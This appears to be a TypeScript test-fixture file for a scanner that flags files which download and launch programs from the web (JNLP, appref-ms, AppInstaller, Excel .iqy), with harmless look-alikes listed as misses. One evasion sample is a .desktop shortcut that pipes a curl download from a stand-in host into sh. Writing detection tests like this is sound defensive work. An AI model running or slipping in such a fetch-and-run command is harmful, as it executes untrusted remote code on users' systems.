import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";

const launch =
  '<?xml version="1.0"?><jnlp spec="1.0+" codebase="https://apps.example/v"><resources><jar href="view.jar"/></resources></jnlp>';

/** Files that get a program from the web, and texts about programs. */
export const examples: Examples = {
  hits: [
    { name: "a description that starts a Java program from the web", delivered: true, files: { "view.jnlp": launch } },
    {
      name: "a reference to an application that is installed from the web",
      delivered: true,
      files: {
        "Support.appref-ms":
          "https://apps.example/support.application#support.application, Culture=neutral, processorArchitecture=msil",
      },
    },
    {
      name: "an installer's description, in an archive",
      delivered: true,
      files: {
        "meeting.zip": makeZip([
          {
            name: "Meeting.appinstaller",
            content:
              '<?xml version="1.0"?><AppInstaller Uri="https://apps.example/m.appinstaller"><MainPackage Uri="https://apps.example/m.msix"/></AppInstaller>',
          },
        ]),
      },
    },
    {
      name: "a query that Excel runs against a site",
      delivered: true,
      files: { "rates.iqy": "WEB\r\n1\r\nhttps://rates.example/q\r\n" },
    },
  ],
  misses: [
    {
      name: "a favourite that leads to a download page",
      why: "The browser opens a page, and a person decides there.",
      delivered: true,
      files: { "Download.url": "[InternetShortcut]\r\nURL=https://apps.example/\r\n" },
    },
    {
      name: "a text with the address of an installer",
      why: "A text starts nothing.",
      delivered: true,
      files: { "readme.txt": "Get it from https://apps.example/m.appinstaller and follow the steps.\n" },
    },
    {
      name: "a description of a Java program beside it",
      why: "It names no place on the web.",
      delivered: true,
      files: {
        "view.jnlp": '<?xml version="1.0"?><jnlp spec="1.0+"><resources><jar href="view.jar"/></resources></jnlp>',
      },
    },
  ],
  evasions: [
    {
      name: "a shortcut that fetches the program",
      caughtBy: "file/shortcut-fetches-program",
      delivered: true,
      files: {
        "Support.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s https://apps.example/s | sh'\n",
      },
    },
  ],
};
